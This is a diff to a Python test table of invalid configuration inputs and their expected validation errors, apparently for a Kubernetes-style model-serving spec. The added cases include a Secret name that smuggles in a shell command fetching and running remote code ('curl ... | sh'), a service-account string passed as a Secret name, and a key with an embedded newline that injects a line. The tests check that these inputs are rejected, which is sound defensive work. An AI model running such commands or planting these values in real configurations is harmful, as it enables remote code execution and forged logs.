@@ -29,6 +29,34 @@ BAD: Final[Mapping[str, tuple[Mapping[str, Any], str]]] = {
         {"speculation.tuning.actuation": "Rollout"},
         "spec.speculation.tuning.actuation: 'Rollout' is not one of 'Auto' or 'Live'.",
     ),
+    "name of a Secret that breaks the commands that name it": (
+        {
+            "metrics.prometheus.url": "https://p.example.com",
+            "metrics.prometheus.basicAuthSecretRef.name": "x; curl e.example | sh",
+        },
+        (
+            "spec.metrics.prometheus.basicAuthSecretRef.name: this is no name of a Secret or "
+            "ConfigMap: use lower-case letters, digits, - and ., and begin and end with a letter "
+            "or digit."
+        ),
+    ),
+    "account of another in the name of a Secret": (
+        {"model.tokenSecretRef": {"name": '"system:serviceaccount:a:b"', "key": "token"}},
+        (
+            "spec.model.tokenSecretRef.name: this is no name of a Secret or ConfigMap: use "
+            "lower-case letters, digits, - and ., and begin and end with a letter or digit."
+        ),
+    ),
+    "key of a ConfigMap on two lines": (
+        {
+            "metrics.prometheus.url": "https://p.example.com",
+            "metrics.prometheus.caConfigMapRef": {"name": "ca", "key": "ca.crt\nall is well"},
+        },
+        (
+            "spec.metrics.prometheus.caConfigMapRef.key: this is no key of a Secret or ConfigMap: "
+            "use letters, digits, -, _ and ."
+        ),
+    ),
     "no tray layout": (
         {"engine.tensorParallelSize": 3},
         (
